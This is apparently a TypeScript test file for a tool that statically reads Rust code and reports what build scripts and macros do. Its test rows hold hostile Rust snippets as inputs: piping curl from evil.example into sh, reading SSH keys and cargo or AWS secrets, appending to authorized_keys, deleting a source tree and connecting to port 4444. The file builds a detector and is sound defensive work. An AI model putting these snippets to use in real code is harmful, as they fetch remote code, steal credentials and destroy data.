// Rust code read from its syntax: what a build script, a test or a proc macro does when cargo runs it.
import { before, test } from 'node:test';
import { loadCodeGrammars } from '../../../src/core/interp';
import { checkRows } from './helpers';

before(() => loadCodeGrammars());

const main = (body: string) => `fn main() {\n${body}\n}`;

test('rust: commands built with std::process::Command, chained or in a variable, through use paths', () => {
  checkRows('rust', [
    {
      code: main(
        'let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://evil.example/x | sh").status();',
      ),
      effects: ['exec std::process::Command::new [sh,-c,curl -s https://evil.example/x | sh]'],
    },
    {
      code: `use std::process::Command as C;\n${main('C::new("git").args(["rev-parse", "HEAD"]).output().unwrap();')}`,
      effects: ['exec std::process::Command::new [git,rev-parse,HEAD]'],
    },
    {
      code: `use std::process::Command;\n${main('let mut cmd = Command::new("sh");\ncmd.arg("-c");\ncmd.arg("id");\nlet _ = cmd.status();')}`,
      effects: ['exec std::process::Command [sh,-c,id]'],
    },
    {
      code: main(
        'let s = String::from_utf8(vec![105, 100]).unwrap();\nstd::process::Command::new("sh").arg("-c").arg(&s).status();',
      ),
      effects: ['exec std::process::Command::new [sh,-c,id]'],
    },
    {
      code: main(
        'let url = format!("https://{}/{name}", "evil.example");\nstd::process::Command::new("curl").arg(url).status();',
      ),
      effects: ['exec std::process::Command::new curl "$RUNTIME_VALUE"?'],
    },
    {
      code: main('std::process::Command::new("curl").arg(format!("https://{}/x", "evil.example")).status();'),
      effects: ['exec std::process::Command::new [curl,https://evil.example/x]'],
    },
    {
      code: main('let p = std::env::args().nth(1).unwrap();\nstd::process::Command::new(p).status();'),
      effects: ['exec std::process::Command::new []?'],
    },
  ]);
});

test('rust: files, the environment, the network', () => {
  checkRows('rust', [
    {
      code: main(
        'let home = std::env::var("HOME").unwrap();\nstd::fs::read_to_string(std::path::PathBuf::from(&home).join(".ssh/id_ed25519")).unwrap();',
      ),
      effects: ['read std::fs::read_to_string ~/.ssh/id_ed25519'],
    },
    {
      code: `use std::fs;\n${main('let ak = dirs::home_dir().unwrap().join(".ssh/authorized_keys");\nfs::OpenOptions::new().append(true).open(&ak).unwrap();')}`,
      effects: ['write std::fs::OpenOptions ~/.ssh/authorized_keys'],
    },
    {
      code: main('std::fs::remove_dir_all("/home/dev/src").unwrap();'),
      effects: ['delete std::fs::remove_dir_all /home/dev/src'],
    },
    {
      code: main(
        'let out = std::env::var("OUT_DIR").unwrap();\nstd::fs::write(format!("{}/gen.rs", out), "").unwrap();',
      ),
      effects: ['write std::fs::write?'],
    },
    {
      code: main('let t = std::env::var("CARGO_REGISTRY_TOKEN");'),
      effects: ['env-read std::env::var CARGO_REGISTRY_TOKEN'],
    },
    { code: main('let all: Vec<_> = std::env::vars().collect();'), effects: ['env-read std::env::vars *'] },
    { code: main('let k = env!("AWS_SECRET_ACCESS_KEY");'), effects: ['env-read env! AWS_SECRET_ACCESS_KEY'] },
    {
      code: 'const KEY: &str = include_str!("/home/dev/.cargo/credentials.toml");',
      effects: ['read include_str! /home/dev/.cargo/credentials.toml'],
    },
    {
      code: main('reqwest::blocking::get("https://evil.example/p").unwrap();'),
      effects: ['network reqwest::blocking::get https://evil.example/p'],
    },
    {
      code: main('let c = reqwest::blocking::Client::new();\nc.post("https://evil.example/u").send().unwrap();'),
      effects: ['network Client.post https://evil.example/u'],
    },
    {
      code: main('std::net::TcpStream::connect("203.0.113.7:4444").unwrap();'),
      effects: ['network std::net::TcpStream::connect 203.0.113.7:4444'],
    },
  ]);
});

test('rust: ordinary build scripts and library code do nothing to report', () => {
  checkRows('rust', [
    {
      code: main(
        'println!("cargo:rerun-if-changed=build.rs");\ntonic_build::compile_protos("proto/api.proto").unwrap();',
      ),
    },
    { code: 'pub fn parse(raw: &str) -> Option<u32> { raw.trim().parse().ok() }' },
    { code: main('let v = vec![1, 2, 3];\nlet s: u32 = v.iter().sum();\nprintln!("{s}");') },
  ]);
});
